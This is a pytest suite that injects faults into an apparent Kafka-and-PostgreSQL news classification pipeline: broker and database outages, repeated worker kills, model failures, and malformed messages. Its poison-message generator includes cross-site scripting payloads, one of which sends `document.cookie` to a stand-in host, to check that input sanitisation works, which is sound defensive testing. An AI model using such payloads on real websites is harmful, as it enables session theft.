"""Faults the service must ride through on its own, on the real broker and the real database.

Each test drives real headlines from `../shared/data` through a real worker process and ends
with exact counts: every published item is one article (with one prediction per instruction)
or one dead letter, none twice. Measured figures (recovery time, peak memory, redeliveries) are
appended to `test-artifacts/faults.jsonl` for the issue's report.
"""

from __future__ import annotations

import hashlib
import json
import random
import time
import unicodedata
from collections import Counter
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlalchemy import func, select, text
from sqlalchemy.orm import Session

from connectors.db.engine import make_engine
from connectors.db.schema import Article, DeadLetter, Prediction
from pipeline.devstack import kafka as devkafka
from pipeline.devstack import postgres as devpg
from pipeline.service.worker import declare_topics
from pipeline.settings import REPO_ROOT
from tests.conftest import Stack, WorkerProcess, counts, wait_for, wait_stored
from tests.current_helpers import assert_current_is_latest, assert_series_views_are_exact
from tests.fault_helpers import MemoryWatch, SteadyProducer, real_items, rss_mib
from tests.kafka_helpers import group_lag, raw_producer, read_all, stable_members

pytestmark = [pytest.mark.kafka, pytest.mark.postgres]

Workers = Callable[..., WorkerProcess]


def report(scenario: str, **figures: object) -> None:
    """Keep a scenario's measured figures (items, losses, duplicates, recovery, memory)."""
    out = REPO_ROOT / "test-artifacts"
    out.mkdir(exist_ok=True)
    with open(out / "faults.jsonl", "a", encoding="utf-8") as handle:
        handle.write(json.dumps({"scenario": scenario, **figures}) + "\n")


def assert_exactly_once(stack: Stack, expected_articles: int, expected_dead: int = 0) -> dict[str, int]:
    """Every expected article stored once with one prediction per instruction; nothing else."""
    final = counts(stack)
    assert final == {
        "articles": expected_articles,
        "predictions": 2 * expected_articles,
        "dlq_records": expected_dead,
    }
    engine = make_engine(stack.database_url)
    with Session(engine) as session:
        per_article = Counter(
            n
            for _, n in session.execute(
                select(Prediction.article_id, func.count()).group_by(Prediction.article_id)
            )
        )
        current = assert_current_is_latest(engine)  # the views' latest answers: exact too
        series = assert_series_views_are_exact(engine)  # and the rollups behind the series views
    engine.dispose()
    assert per_article == Counter({2: expected_articles})
    assert current >= 2 * expected_articles
    assert series > 0
    return final


def redelivered(workers_started: list[WorkerProcess], stored_once: int) -> int:
    """Messages the workers processed more than once (the idempotent writes absorbed them)."""
    return sum(int(e["size"]) for w in workers_started for e in w.batch_logs()) - stored_once


def rows_now(stack: Stack) -> int:
    try:
        return counts(stack)["articles"]
    except Exception:  # the database is the thing that is down
        return -1


@pytest.mark.exclusive  # it stops the broker every other test uses
def test_broker_restart_mid_run_loses_and_duplicates_nothing(
    stack: Stack, workers: Workers, data_dir: Path, kafka_broker: devkafka.BrokerConfig
) -> None:
    if not kafka_broker.pid_file.exists():
        pytest.skip("the broker was not started from this checkout's devstack: it cannot restart it")
    settings = stack.settings()
    declare_topics(settings)
    items = real_items(data_dir, 3000, stack.run_id)
    worker = workers()
    producer = SteadyProducer(stack.kafka, settings.topic_raw, items, rate=100).start()
    wait_for(lambda: rows_now(stack) >= 200, 120, "items flowing before the restart")
    try:
        assert devkafka.stop(kafka_broker), "the broker was not running"
        rows_at_stop = rows_now(stack)
        time.sleep(20)
    finally:
        devkafka.start(kafka_broker)
    restarted = time.monotonic()
    wait_for(lambda: rows_now(stack) > rows_at_stop + 100, 180, "rows again after the restart", 0.2)
    recovery_s = time.monotonic() - restarted
    producer.join(240)
    wait_stored(stack, len(items))
    final = assert_exactly_once(stack, len(items))
    assert worker.alive(), "the worker must ride through the restart, not exit"
    wait_for(lambda: group_lag(stack.kafka, settings.consumer_group, settings.topic_raw) == 0, 120, "lag 0")
    classified = Counter(r.key.decode() for r in read_all(stack.kafka, settings.topic_classified))
    assert set(classified) == {item.id for item in items}
    report(
        "broker restart (stopped 20 s)",
        items=len(items),
        stored=final["articles"],
        lost=len(items) - final["articles"],
        duplicate_rows=0,
        producer_resent_chunks=producer.resent_chunks,
        recovery_s_after_broker_back=round(recovery_s, 1),
        classified_messages_repeated=sum(classified.values()) - len(classified),
    )


@pytest.mark.exclusive  # it stops the PostgreSQL server every other test uses
def test_database_outage_pauses_the_worker_with_bounded_memory_and_it_resumes_alone(
    stack: Stack, workers: Workers, data_dir: Path, pg_server: devpg.PostgresConfig
) -> None:
    stack.overrides["db_retry_max_s"] = 4.0
    settings = stack.settings()
    declare_topics(settings)
    items = real_items(data_dir, 8_500, stack.run_id)
    worker = workers()
    producer = SteadyProducer(stack.kafka, settings.topic_raw, items, rate=120).start()
    wait_for(lambda: rows_now(stack) >= 300, 120, "items flowing before the outage")
    watch = MemoryWatch(worker.pid).start()
    time.sleep(2)
    before_mib = watch.peak_between(time.monotonic() - 2)
    try:
        assert devpg.stop(pg_server), "PostgreSQL was not running from this checkout's devstack"
        down_at = time.monotonic()
        published_at_stop = producer.acked
        time.sleep(60)
        published_during = producer.acked - published_at_stop
        peak_during = watch.peak_between(down_at)
    finally:
        devpg.start(pg_server)
    back = time.monotonic()
    resumed_rows = rows_now(stack)
    wait_for(lambda: rows_now(stack) > resumed_rows + 100, 120, "rows again after the outage", 0.2)
    recovery_s = time.monotonic() - back
    producer.join(240)
    wait_stored(stack, len(items), timeout=300)
    watch.stop()
    final = assert_exactly_once(stack, len(items))
    assert worker.alive()
    log_text = worker.log_path.read_text(errors="replace")
    assert "database write failed; retrying" in log_text or "lookup failed; retrying" in log_text
    # Messages kept arriving during the outage; the worker held only a bounded buffer of them.
    assert published_during > 5000
    assert peak_during - before_mib < 150, f"memory grew {peak_during - before_mib:.0f} MiB while down"
    report(
        "PostgreSQL stopped 60 s",
        items=len(items),
        stored=final["articles"],
        lost=len(items) - final["articles"],
        duplicate_rows=0,
        published_during_outage=published_during,
        rss_before_mib=round(before_mib),
        peak_rss_during_outage_mib=round(peak_during),
        peak_rss_run_mib=round(watch.peak),
        recovery_s_after_database_back=round(recovery_s, 1),
    )


@pytest.mark.heavy
def test_worker_sigkilled_ten_times_during_20000_items_counts_exact(
    stack: Stack, workers: Workers, data_dir: Path
) -> None:
    rng = random.Random(20_000)
    # Static membership: each restarted worker takes its partitions back without waiting for the
    # group to expire the killed one (the production setting for workers that get restarted).
    stack.overrides["worker_instance_id"] = "fault-worker-1"
    settings = stack.settings()
    declare_topics(settings)
    items = real_items(data_dir, 20_000, stack.run_id)
    started = [workers()]
    producer = SteadyProducer(stack.kafka, settings.topic_raw, items, rate=1000).start()
    began = time.monotonic()
    rows_at_kill: list[int] = []
    for _ in range(10):
        # A random moment while this worker is storing: after its first rows, 0-1.5 s later.
        progress = rows_now(stack)
        wait_for(lambda p=progress: rows_now(stack) > p, 120, "the restarted worker to store", 0.05)
        time.sleep(rng.uniform(0, 1.5))
        started[-1].kill()
        rows_at_kill.append(rows_now(stack))
        started.append(workers())
    producer.join(240)
    wait_stored(stack, len(items), timeout=300)
    final = assert_exactly_once(stack, len(items))
    assert rows_at_kill[-1] < len(items), "the last kill came after the run; it did not test a crash"
    assert started[-1].alive()
    repeats = redelivered(started, len(items))
    report(
        "worker SIGKILLed 10 times",
        items=len(items),
        stored=final["articles"],
        lost=len(items) - final["articles"],
        duplicate_rows=0,
        kills=len(rows_at_kill),
        rows_at_each_kill=rows_at_kill,
        messages_processed_twice_and_absorbed=repeats,
        run_s=round(time.monotonic() - began, 1),
    )


def test_model_failures_are_split_isolated_dead_lettered_and_replayed_after_the_fix(
    stack: Stack, workers: Workers, data_dir: Path
) -> None:
    settings = stack.settings()
    declare_topics(settings)
    items = real_items(data_dir, 2000, stack.run_id)
    marker = "#model-chokes"
    poisoned = set(random.Random(4).sample(range(len(items)), 20))
    items = [
        item.model_copy(update={"title": f"{item.title} {marker}"}) if i in poisoned else item
        for i, item in enumerate(items)
    ]
    # Batches over 32 texts fail like a GPU out of memory; texts with the marker fail even alone.
    chaotic = workers({"CHAOS_OOM_ABOVE": "32", "CHAOS_FAIL_MARKER": marker})
    producer = SteadyProducer(stack.kafka, settings.topic_raw, items, rate=1000).start()
    producer.join(120)
    wait_stored(stack, len(items))
    assert_exactly_once(stack, len(items) - 20, expected_dead=20)
    assert chaotic.alive()
    engine = make_engine(stack.database_url)
    with Session(engine) as session:
        dead = session.execute(select(DeadLetter.reason_code, DeadLetter.reason)).all()
        stored_ids = set(session.scalars(select(Article.id)))
    assert {code for code, _ in dead} == {"model_error"}
    assert all("the model cannot digest this text" in reason for _, reason in dead)
    assert stored_ids == {item.id for i, item in enumerate(items) if i not in poisoned}
    log_text = chaotic.log_path.read_text(errors="replace")
    assert "batch inference failed; splitting" in log_text and "CUDA out of memory" in log_text

    chaotic.stop()  # the cause is fixed: a worker whose model digests every text
    workers()
    replay = json.loads(stack.finsent("dlq", "replay").stdout.strip().splitlines()[-1])
    assert replay["replayed"] == 20
    wait_for(lambda: counts(stack)["dlq_records"] == 0, 120, "the replayed items to leave the DLQ")
    assert_exactly_once(stack, len(items))
    with Session(engine) as session:
        resolutions = Counter(session.scalars(select(DeadLetter.resolution)))
    engine.dispose()
    assert resolutions == Counter({"stored": 20})
    report(
        "model failure (OOM above 32 texts, 20 items fail alone)",
        items=len(items),
        stored_first=len(items) - 20,
        dead_lettered_model_error=20,
        stored_after_replay=len(items),
        lost=0,
        duplicate_rows=0,
    )


def test_slow_database_and_model_slow_consumption_without_rebalances(
    stack: Stack, workers: Workers, data_dir: Path
) -> None:
    stack.overrides.update({"batch_max_items": 128, "kafka_max_poll_interval_s": 20.0})
    settings = stack.settings()
    declare_topics(settings)
    engine = make_engine(stack.database_url)
    with engine.begin() as connection:  # every insert into articles takes a second longer
        connection.execute(
            text(
                "CREATE FUNCTION slow_down() RETURNS trigger LANGUAGE plpgsql AS "
                "$$ BEGIN PERFORM pg_sleep(1.0); RETURN NULL; END $$"
            )
        )
        connection.execute(
            text(
                "CREATE TRIGGER slow_articles AFTER INSERT ON articles "
                "FOR EACH STATEMENT EXECUTE FUNCTION slow_down()"
            )
        )
    engine.dispose()
    items = real_items(data_dir, 1500, stack.run_id)
    worker = workers({"CHAOS_CLASSIFY_DELAY_S": "1.0"})  # and every model call a second
    producer = SteadyProducer(stack.kafka, settings.topic_raw, items, rate=2000).start()
    producer.join(60)
    published = time.monotonic()
    watch = MemoryWatch(worker.pid).start()
    wait_stored(stack, len(items), timeout=300)
    drained_s = time.monotonic() - published
    watch.stop()
    final = assert_exactly_once(stack, len(items))
    batches = worker.batch_logs()
    longest = max(float(e["classify_s"]) + float(e["write_s"]) for e in batches)
    log_text = worker.log_path.read_text(errors="replace")
    joins = log_text.count('"partitions_assigned"')
    assert longest < settings.kafka_max_poll_interval_s
    assert joins == 1, f"the worker rejoined its group {joins} times: a rebalance storm"
    assert worker.alive()
    report(
        "slow database (+1 s per insert statement) and model (+1 s per call)",
        items=len(items),
        stored=final["articles"],
        lost=0,
        duplicate_rows=0,
        batches=len(batches),
        longest_batch_s=round(longest, 2),
        drain_s=round(drained_s, 1),
        items_per_s=round(len(items) / drained_s, 1),
        group_joins=joins,
        peak_rss_mib=round(watch.peak),
    )


def _poison(rng: random.Random, template: dict[str, object]) -> list[tuple[str, bytes | None]]:
    """1,000 bad messages of every kind, each with the reason code it must be dead-lettered with."""

    def item(**changes: object) -> bytes:
        return json.dumps({**template, "id": f"bad{rng.getrandbits(40):012x}", **changes}).encode()

    bad: list[tuple[str, bytes | None]] = []
    for _ in range(170):  # broken JSON: truncated, trailing garbage, single quotes, nothing at all
        bad.append(("invalid_json", rng.choice([item()[:-7], item() + b"}}", b"{'title': 'x'}", b""])))
    for _ in range(100):  # not UTF-8: Latin-1 bytes, a lone continuation byte, a truncated sequence
        bad.append(
            ("invalid_utf8", rng.choice([item(title="caf\xe9").replace(b"\\u00e9", b"\xe9"), b"\x80{}"]))
        )
    for _ in range(100):
        data = json.loads(item())
        del data[rng.choice(["title", "published_at", "source", "fetched_at", "id"])]
        bad.append(("schema_violation", json.dumps(data).encode()))
    for _ in range(150):
        field, value = rng.choice(
            [
                ("title", 42),
                ("tickers", "AAPL"),
                ("published_at", 17),
                ("body", ["x"]),
                ("source", None),
                ("published_at", "yesterday"),
                ("published_at", "2026-11-28T10:00:00"),
                ("tickers", ["aapl"]),
                ("id", "short"),
                ("id", "x" * 300),
                ("id", "has spaces/and slashes"),
            ]
        )
        bad.append(("schema_violation", item(**{field: value})))
    for _ in range(30):  # 10 MB bodies: larger than any valid item, refused before decoding
        bad.append(("message_too_large", item(body="y" * 10_000_000)))
    for _ in range(20):
        bad.append(("field_too_large", item(title="t" * 50_000)))
    for depth in range(100):  # deeply nested JSON, alone or inside an otherwise valid item
        nested = "[" * (50_000 + depth) + "]" * (50_000 + depth)
        raw = nested.encode() if depth % 2 else item()[:-1] + b', "extra": ' + nested.encode() + b"}"
        bad.append(("invalid_json", raw))
    for _ in range(100):  # control characters: a title of nothing else, or inside the id
        if rng.random() < 0.5:
            bad.append(("schema_violation", item(title="\u0000\u0007\u001b\u200b\u0085\u2028")))
        else:
            bad.append(("schema_violation", item(id="abc\u0000def\u0007ghi")))
    for _ in range(100):  # markup and script only: nothing left once it is stripped
        title = rng.choice(
            [
                "<script>fetch('//evil.test/'+document.cookie)</script>",
                "<img src=x onerror=alert(1)>",
                "<style>*{display:none}</style><b></b>",
                "<iframe src=javascript:alert(1)></iframe>&nbsp;",
            ]
        )
        bad.append(("schema_violation", item(title=title)))
    for i in range(50):
        bad.append(("not_an_object", json.dumps(rng.choice([[i, "x"], "a string", 7, None, True])).encode()))
    for _ in range(60):
        bad.append(("unsupported_schema_version", item(schema_version=rng.choice([0, 2, "1", None, 1.5]))))
    for _ in range(20):
        bad.append(("empty", None))  # a tombstone on news.raw
    assert len(bad) == 1000
    return bad


@pytest.mark.heavy
def test_a_thousand_poison_messages_among_ten_thousand_all_dead_lettered_memory_bounded(
    stack: Stack, workers: Workers, data_dir: Path
) -> None:
    rng = random.Random(1000)
    settings = stack.settings()
    declare_topics(settings)
    good = real_items(data_dir, 10_000, stack.run_id)
    # Hostile but salvageable: markup and control characters around real text are stripped and
    # the item stored (the rule for every item), never stored raw.
    hostile = set(rng.sample(range(len(good)), 300))
    for i in hostile:
        item = good[i]
        title = f"<script>alert('{i}')</script>\u0007<b>{item.title}</b>\u200b"
        good[i] = item.model_copy(update={"title": title, "body": "<p>body &amp; more\u0000</p>"})
    template = json.loads(good[0].to_json_bytes())
    bad = _poison(rng, template)
    messages: list[tuple[bytes | None, bytes | None, str | None]] = [
        (item.id.encode(), item.to_json_bytes(), None) for item in good
    ]
    bursts = [m for m in bad if m[0] == "message_too_large"]
    scattered = [m for m in bad if m not in bursts]
    for n, (code, value) in enumerate(scattered):
        messages.insert(rng.randrange(len(messages) + 1), (f"bad-{n}".encode(), value, code))
    # The 10 MB bodies arrive back to back on one partition: the worst case for buffering.
    at = rng.randrange(len(messages) + 1)
    messages[at:at] = [(b"huge", value, code) for code, value in bursts]
    expected = Counter(code for code, _ in bad)

    worker = workers()
    watch = MemoryWatch(worker.pid).start()
    wait_for(lambda: stable_members(stack.kafka, settings.consumer_group) == 1, 90, "the worker in its group")
    time.sleep(1)
    baseline_mib = watch.peak
    began = time.monotonic()
    producer = raw_producer(stack.kafka)
    for key, value, _ in messages:
        producer.send(settings.topic_raw, key=key, value=value)
    producer.flush()
    producer.close()
    produced_s = time.monotonic() - began
    wait_stored(stack, len(messages), timeout=300)
    drained_s = time.monotonic() - began
    first_peak = watch.peak
    final = assert_exactly_once(stack, len(good), expected_dead=1000)
    assert worker.alive()
    engine = make_engine(stack.database_url)
    with Session(engine) as session:
        codes = Counter(session.scalars(select(DeadLetter.reason_code)))
        reasons = list(session.scalars(select(DeadLetter.reason)))
        stored_text = list(session.execute(select(Article.title, Article.body)))
    engine.dispose()
    assert codes == expected
    assert all(reasons)
    for title, body in stored_text:
        assert "<script" not in title + body and "<b>" not in title
        assert not any(unicodedata.category(ch)[0] == "C" and ch not in "\n\t" for ch in title + body)
    checked = time.monotonic()
    dead = read_all(stack.kafka, settings.topic_dlq)
    assert Counter(dict(r.headers)["finsent.reason_code"].decode() for r in dead) == expected
    assert Counter(hashlib.sha256(r.value or b"").hexdigest() for r in dead) == Counter(
        hashlib.sha256(v or b"").hexdigest() for _, v in bad
    ), "the DLQ must carry the original bytes unchanged"
    time.sleep(3)  # the last batches' dead letters acknowledged, their buffers freed
    settled_mib = rss_mib(worker.pid)
    watch.stop()
    growth = first_peak - baseline_mib
    report(
        "1,000 poison messages among 10,000 good",
        items=len(messages),
        stored=final["articles"],
        dead_lettered=final["dlq_records"],
        dead_letters_by_reason=dict(codes),
        lost=0,
        duplicate_rows=0,
        poison_bytes_mib=round(sum(len(v or b"") for _, v in bad) / 2**20),
        rss_baseline_mib=round(baseline_mib),
        peak_rss_mib=round(first_peak),
        rss_after_mib=round(settled_mib),
        produce_s=round(produced_s, 1),
        stored_s=round(drained_s, 1),
        dlq_check_s=round(time.monotonic() - checked, 1),
    )
    # The buffers are counted in messages (Faust's stream buffer, one batch), so back-to-back
    # 10 MB messages raise the peak by what those buffers hold; once they are dead-lettered the
    # memory goes back (the worker keeps big buffers out of the heap), so nothing accumulates.
    assert growth < 600, f"the worker's memory grew by {growth:.0f} MiB"
    assert settled_mib - baseline_mib < 100, f"{settled_mib - baseline_mib:.0f} MiB still held afterwards"
